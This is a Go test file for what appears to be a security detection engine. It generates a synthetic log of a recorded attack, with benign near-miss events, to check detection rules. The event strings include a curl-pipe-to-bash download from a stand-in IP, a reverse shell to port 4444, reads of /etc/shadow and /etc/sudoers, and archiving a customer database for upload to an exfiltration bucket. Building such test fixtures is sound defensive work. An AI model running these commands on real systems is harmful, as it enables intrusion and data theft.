package main

import (
	"flag"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/replay"
	"github.com/kestrel-sec/kestrel/rule"
	"github.com/kestrel-sec/kestrel/schema"
	"github.com/kestrel-sec/kestrel/value"
)

var update = flag.Bool("update", false, "rewrite ../../examples/attack.jsonl and the golden alerts")

const (
	exampleDir    = "../../examples"
	exampleRules  = exampleDir + "/rules"
	exampleLog    = exampleDir + "/attack.jsonl"
	exampleGolden = exampleDir + "/alerts.golden.jsonl"
)

// scenario is the recorded attack of the example: a web server's worker
// runs curl | bash, the script opens a reverse shell and reads
// /etc/shadow; a user escalates with sudo, archives a database and uploads
// it, and moves on over SSH; meanwhile a benign session does near misses of
// every rule. The entity key is the login session, so the processes of one
// session (the shell and its children) share a partition.
func scenario() []schema.Event {
	reg := rule.DefaultRegistry()
	b := schema.NewBuilder(reg)
	var out []schema.Event
	id := uint64(0)
	const t0 = 1000 * time.Second
	const wall0 = 1_767_225_600_000_000_000 // 2026-01-01T00:00:00Z
	type proc struct {
		entity, parent, exe, name, user string
		pid                             int64
		session                         uint64
	}
	emit := func(at time.Duration, typ string, p proc, kv ...any) {
		id++
		b.Reset().ID(id).TypeName(typ).Mono(schema.TimestampMono(t0+at)).Wall(schema.TimestampWall(wall0+int64(t0+at))).
			Entity(schema.EntityKeyFrom64(p.session)).
			Path("process.entity_id", value.StringValue(p.entity)).Path("process.pid", value.I64Value(p.pid)).
			Path("process.executable", value.StringValue(p.exe)).Path("process.name", value.StringValue(p.name)).
			Path("user.name", value.StringValue(p.user))
		if p.parent != "" {
			b.Path("process.parent.entity_id", value.StringValue(p.parent))
		}
		for i := 0; i+1 < len(kv); i += 2 {
			var v value.Value
			switch x := kv[i+1].(type) {
			case string:
				v = value.StringValue(x)
			case int:
				v = value.U64Value(uint64(x))
			}
			b.Path(kv[i].(string), v)
		}
		ev, err := b.Build()
		if err != nil {
			panic(err)
		}
		out = append(out, ev)
	}
	ms := time.Millisecond
	s := time.Second
	exec := func(at time.Duration, p proc, cmd string) { emit(at, "process_exec", p, "process.command_line", cmd) }

	// Session 1: the web server's worker, as www-data.
	web := func(entity, parent, exe string, pid int64) proc {
		return proc{entity, parent, exe, exe[lastSlash(exe)+1:], "www-data", pid, 0x5e5510001}
	}
	sh := web("p-4101", "p-nginx-88", "/bin/sh", 4101)
	curl := web("p-4102", "p-4101", "/usr/bin/curl", 4102)
	bash := web("p-4103", "p-4101", "/bin/bash", 4103)
	exec(0, sh, "sh -c curl -fsSL http://198.51.100.7/x.sh | bash")
	exec(10*ms, curl, "curl -fsSL http://198.51.100.7/x.sh")
	emit(40*ms, "network_connect", curl, "network.direction", "outbound", "network.dest_ip", "198.51.100.7", "network.dest_port", 80)
	exec(12*ms, bash, "bash")
	emit(500*ms, "network_connect", bash, "network.direction", "outbound", "network.dest_ip", "198.51.100.7", "network.dest_port", 4444)
	rsh := bash
	rsh.exe, rsh.name = "/bin/sh", "sh" // the same process execs a shell
	exec(600*ms, rsh, "sh -i")
	emit(1*s, "file_open", rsh, "file.path", "/etc/shadow")

	// Session 2: alice.
	alice := func(entity, exe string, pid int64) proc {
		return proc{entity, "p-2200", exe, exe[lastSlash(exe)+1:], "alice", pid, 0x5e5510002}
	}
	sudo := alice("p-2301", "/usr/bin/sudo", 2301)
	exec(5*s, sudo, "sudo -s")
	emit(5*s+500*ms, "file_open", sudo, "file.path", "/etc/sudoers")
	tar := alice("p-2302", "/usr/bin/tar", 2302)
	emit(10*s, "process_exec", tar, "process.command_line", "tar czf - /var/lib/app/customers.db", "process.args", "czf - /var/lib/app/customers.db")
	emit(12*s, "network_connect", tar, "network.direction", "outbound", "network.dest_host", "exfil-bkt.s3.amazonaws.com", "network.dest_port", 443)
	ssh := alice("p-2303", "/usr/bin/ssh", 2303)
	emit(20*s, "process_exec", ssh, "process.command_line", "ssh -i /tmp/k alice@10.0.4.17", "process.args", "-i /tmp/k alice@10.0.4.17")
	emit(20*s+200*ms, "network_connect", ssh, "network.direction", "outbound", "network.dest_ip", "10.0.4.17", "network.dest_port", 22)

	// Session 3: bob, benign, near misses of each rule.
	bob := func(entity, parent, exe string, pid int64) proc {
		return proc{entity, parent, exe, exe[lastSlash(exe)+1:], "bob", pid, 0x5e5510003}
	}
	exec(2*s, bob("p-3001", "p-3000", "/bin/ls", 3001), "ls -la")
	emit(3*s, "file_open", bob("p-3002", "p-3000", "/usr/bin/vim", 3002), "file.path", "/home/bob/.bashrc")
	bcurl := bob("p-3003", "p-3000", "/usr/bin/curl", 3003)
	exec(4*s, bcurl, "curl -O https://example.com/release.tar.gz")
	exec(4*s+100*ms, bob("p-3004", "p-3000", "/bin/bash", 3004), "bash -c make install") // a shell with -c: no curl|bash
	emit(4*s+200*ms, "network_connect", bcurl, "network.direction", "outbound", "network.dest_port", 443)
	bssh := bob("p-3005", "p-3000", "/usr/bin/ssh", 3005)
	emit(6*s, "process_exec", bssh, "process.command_line", "ssh -V", "process.args", "-V")
	emit(6*s+10*ms, "network_connect", bssh, "network.direction", "outbound", "network.dest_port", 22)
	bsudo := bob("p-3006", "p-3000", "/usr/bin/sudo", 3006)
	exec(7*s, bsudo, "sudo apt update")
	emit(7*s+100*ms, "file_open", bsudo, "file.path", "/etc/hosts")
	btar := bob("p-3007", "p-3000", "/usr/bin/tar", 3007)
	emit(8*s, "process_exec", btar, "process.command_line", "tar czf photos.tgz photos/", "process.args", "czf photos.tgz photos/")
	emit(9*s, "network_connect", btar, "network.direction", "outbound", "network.dest_port", 443)
	bnc := bob("p-3008", "p-3000", "/usr/bin/nc", 3008)
	emit(11*s, "network_connect", bnc, "network.direction", "outbound", "network.dest_port", 4444)
	exec(22*s, bob("p-3008", "p-3000", "/bin/bash", 3008), "bash") // a shell, but 11s after the connection
	emit(23*s, "file_open", bob("p-3009", "p-3000", "/usr/bin/cat", 3009), "file.path", "/home/bob/.ssh/known_hosts")

	// In time order, as a sensor records them.
	sortByTime(out)
	for i := range out {
		out[i].ID = uint64(i + 1)
	}
	return out
}

func sortByTime(evs []schema.Event) {
	for i := 1; i < len(evs); i++ {
		for j := i; j > 0 && evs[j].TsMono < evs[j-1].TsMono; j-- {
			evs[j], evs[j-1] = evs[j-1], evs[j]
		}
	}
}

func lastSlash(s string) int {
	for i := len(s) - 1; i >= 0; i-- {
		if s[i] == '/' {
			return i
		}
	}
	return -1
}

// writeLog records evs at path in the format its extension names.
func writeLog(t *testing.T, path string, evs []schema.Event) {
	t.Helper()
	w, err := replay.Create(path, replay.WriterOptions{Header: true, SchemaVersion: 1})
	if err != nil {
		t.Fatal(err)
	}
	for i := range evs {
		if err := w.Write(&evs[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestExampleLogUpToDate checks that the recorded example is the scenario
// above (go test -update rewrites it).
func TestExampleLogUpToDate(t *testing.T) {
	evs := scenario()
	if *update {
		writeLog(t, exampleLog, evs)
	}
	rd, err := replay.Open(exampleLog)
	if err != nil {
		t.Fatal(err)
	}
	defer rd.Close()
	var ev schema.Event
	for i := range evs {
		if err := rd.Next(&ev); err != nil {
			t.Fatalf("event %d: %v", i+1, err)
		}
		if string(ev.AppendJSON(nil)) != string(evs[i].AppendJSON(nil)) {
			t.Fatalf("event %d differs from the scenario; run go test -update\n got %s\nwant %s", i+1, ev.AppendJSON(nil), evs[i].AppendJSON(nil))
		}
	}
	if err := rd.Next(&ev); err == nil {
		t.Fatal("the log has more events than the scenario; run go test -update")
	}
}
